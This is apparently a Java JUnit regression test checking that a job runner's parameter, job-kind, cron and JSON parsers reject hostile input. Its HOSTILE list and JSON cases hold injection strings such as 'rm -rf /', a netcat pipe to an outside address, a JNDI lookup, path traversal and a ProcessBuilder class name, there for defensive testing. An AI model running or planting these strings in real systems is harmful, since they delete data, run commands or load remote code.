package org.ongsung.jobs;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/// Job runner as a shell: no text of a person or a target becomes a command line, a template or a
/// class.
class JobRunnerAsAShellRegressionTest {
  private static final List<String> HOSTILE =
      List.of(
          "; rm -rf /",
          "$(reboot)",
          "`id`",
          "| nc 203.0.113.9 1",
          "../../etc/passwd",
          "-oProxyCommand=id",
          "${jndi:ldap://x}",
          "web-1\n0 * * * * root id",
          "{{7*7}}",
          "java.lang.Runtime");

  @Test
  void noFieldThatNamesSomethingTakesMoreThanAName() {
    for (String text : HOSTILE) {
      if (!text.equals("java.lang.Runtime")) {
        assertThatThrownBy(() -> JobTrees.parameters(JobKind.PROBE, Map.of("target", text)))
            .as(text)
            .isInstanceOf(IllegalArgumentException.class);
      }
      assertThatThrownBy(() -> JobKind.of(text)).as(text).isInstanceOf(Exception.class);
      assertThatThrownBy(() -> CronTimes.parse(text))
          .as(text)
          .isInstanceOf(IllegalArgumentException.class);
    }
  }

  @Test
  void noKindHasAFieldForACommandAnAddressOrAClass() {
    Map<JobKind, Map<String, Object>> good =
        Map.of(
            JobKind.PROBE,
            Map.of("target", "web-1"),
            JobKind.LOGIN,
            Map.of("target", "web-1"),
            JobKind.SESSION,
            Map.of("user", "a", "target", "b", "account", "c"),
            JobKind.PURGE,
            Map.of("keepDays", 30),
            JobKind.BACKUP,
            Map.of("keep", 7),
            JobKind.NOTIFY,
            Map.of("channel", "webhook", "title", "t", "text", "x"),
            JobKind.REPORT,
            Map.of(
                "content",
                "sessions",
                "form",
                "csv",
                "since",
                "2026-01-01T00:00:00Z",
                "until",
                "2026-02-01T00:00:00Z"));
    assertThat(good).hasSize(JobKind.values().length);
    good.forEach(
        (kind, tree) -> {
          assertThat(JobTrees.of(JobTrees.parameters(kind, tree))).isEqualTo(tree);
          for (String field : List.of("command", "url", "host", "class", "@class", "template")) {
            Map<String, Object> more = new HashMap<>(tree);
            more.put(field, "id");
            assertThatThrownBy(() -> JobTrees.parameters(kind, more))
                .as(kind + " " + field)
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining(field);
          }
        });
  }

  @Test
  void whatIsReadNamesNoClass() {
    Object read = JobTrees.tree("{\"@class\": \"java.lang.ProcessBuilder\", \"x\": [1]}").get("x");
    assertThat(read).isInstanceOf(List.class);
    assertThatThrownBy(() -> JobTrees.tree("[\"java.lang.ProcessBuilder\", {}]"))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> JobTrees.tree("{\"a\":".repeat(20) + "1" + "}".repeat(20)))
        .isInstanceOf(IllegalArgumentException.class);
  }
}
